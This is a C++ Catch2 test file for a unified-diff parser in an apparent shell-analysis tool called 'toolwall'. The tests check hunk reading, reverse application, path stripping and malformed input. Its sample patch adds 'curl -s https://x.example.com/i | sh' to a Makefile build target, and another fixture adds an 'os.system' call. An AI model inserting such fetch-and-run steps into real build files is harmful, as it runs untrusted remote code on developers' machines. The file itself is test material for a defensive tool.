#include <catch2/catch.hpp>

#include "analysis/shell/unified_diff.h"

using toolwall::shell::DiffReading;
using toolwall::shell::unified_diff_changes;

namespace {

const char* kGitDiff =
    "From 1a2b Mon Sep 17 00:00:00 2001\n"
    "Subject: [PATCH] build: setup target\n"
    "\n"
    "diff --git a/Makefile b/Makefile\n"
    "index 3b18e51..a1c2d3e 100644\n"
    "--- a/Makefile\n"
    "+++ b/Makefile\n"
    "@@ -1,2 +1,3 @@\n"
    " all:\n"
    "+\tcurl -s https://x.example.com/i | sh\n"
    " \tcc main.c\n"
    "@@ -10,2 +11,2 @@ clean:\n"
    "-\trm -f app\n"
    "+\trm -f app *.o\n"
    " \techo done\n"
    "diff --git a/tools/run.sh b/tools/run.sh\n"
    "new file mode 100755\n"
    "--- /dev/null\n"
    "+++ b/tools/run.sh\n"
    "@@ -0,0 +1,2 @@\n"
    "+#!/bin/sh\n"
    "+make all\n"
    "diff --git a/old.txt b/old.txt\n"
    "deleted file mode 100644\n"
    "--- a/old.txt\n"
    "+++ /dev/null\n"
    "@@ -1 +0,0 @@\n"
    "-gone\n"
    "-- \n"
    "2.43.0\n";

}  // namespace

TEST_CASE("a git patch gives each file's hunks, a new file's whole content and a removed file") {
  auto changes = unified_diff_changes(kGitDiff);
  REQUIRE(changes.size() == 3);
  CHECK(changes[0].path == "Makefile");
  CHECK_FALSE(changes[0].whole_file);
  CHECK(changes[0].new_text == "all:\n\tcurl -s https://x.example.com/i | sh\n\tcc main.c\n\trm -f app *.o\n\techo done\n");
  CHECK(changes[0].old_text == "all:\n\tcc main.c\n\trm -f app\n\techo done\n");
  CHECK(changes[1].path == "tools/run.sh");
  CHECK(changes[1].whole_file);
  CHECK(changes[1].new_text == "#!/bin/sh\nmake all\n");
  CHECK(changes[2].path == "old.txt");
  CHECK(changes[2].deleted);
}

TEST_CASE("a patch applied in reverse writes its old side, under the strip and directory asked for") {
  DiffReading reverse;
  reverse.reverse = true;
  auto undone = unified_diff_changes(kGitDiff, reverse);
  REQUIRE(undone.size() == 3);
  CHECK(undone[0].new_text == "all:\n\tcc main.c\n\trm -f app\n\techo done\n");
  CHECK(undone[1].deleted);  // undoing a creation removes the file
  CHECK(undone[2].whole_file);
  CHECK(undone[2].new_text == "gone\n");
  DiffReading nested;
  nested.strip = 0;
  nested.directory = "vendor/lib";
  CHECK(unified_diff_changes(kGitDiff, nested)[0].path == "vendor/lib/b/Makefile");
  DiffReading one_file;
  one_file.only_file = "GNUmakefile";
  CHECK(unified_diff_changes(kGitDiff, one_file)[0].path == "GNUmakefile");
}

TEST_CASE("plain diff -u output with timestamps, CRLF lines and no a/ b/ prefixes is read") {
  auto changes = unified_diff_changes(
      "--- src/app.py\t2026-11-01 10:00:00.000000000 +0000\r\n"
      "+++ src/app.py\t2026-11-02 10:00:00.000000000 +0000\r\n"
      "@@ -1,1 +1,2 @@\r\n"
      " import os\r\n"
      "+os.system('id')\r\n");
  REQUIRE(changes.size() == 1);
  CHECK(changes[0].path == "src/app.py");
  CHECK(changes[0].new_text == "import os\nos.system('id')\n");
}

TEST_CASE("text that is no diff, or hunks with lying counts, give what can be read and no more") {
  CHECK(unified_diff_changes("just some notes\n--- not a header\n").empty());
  CHECK(unified_diff_changes("").empty());
  auto short_hunk = unified_diff_changes("--- a/x\n+++ b/x\n@@ -1,9 +1,9 @@\n a\n+b\nnot a hunk line\n+c\n");
  REQUIRE(short_hunk.size() == 1);
  CHECK(short_hunk[0].new_text == "a\nb\n");
}

TEST_CASE("a hunk header cut short before its closing @@ reads its counts to the end of the line") {
  auto changes = unified_diff_changes("--- a/x\n+++ b/x\n@@ -0,0 +1,1\n+added\n");
  REQUIRE(changes.size() == 1);
  CHECK(changes[0].new_text == "added\n");
  CHECK(unified_diff_changes("--- a/x\n+++ b/x\n@@ -0,0").at(0).new_text.empty());
}

TEST_CASE("a file header on the diff's last line, with nothing after it, is read without reading past the end") {
  CHECK(unified_diff_changes("--- a/x").empty());
  auto headers_only = unified_diff_changes("notes\n--- a/x\n+++ b/x");
  REQUIRE(headers_only.size() == 1);
  CHECK(headers_only[0].new_text.empty());
}
